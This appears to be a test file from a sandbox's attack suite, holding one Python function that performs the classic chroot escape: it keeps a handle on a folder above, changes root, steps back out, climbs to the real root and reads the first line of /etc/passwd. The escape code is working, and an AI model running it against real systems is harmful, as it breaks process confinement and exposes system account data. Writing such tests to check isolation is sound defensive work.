"""Climbs out of a changed root: keeps a folder above it open, changes the root, goes back and up; success is the users' list."""

import contextlib
import os
from pathlib import Path

from tests.attacks.toolkit import Plants


def attack(plants: Plants) -> str | None:
    above = os.open("..", os.O_RDONLY)
    with contextlib.suppress(OSError):
        os.chroot(plants.folder)
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return Path("etc/passwd").read_text().splitlines()[0]
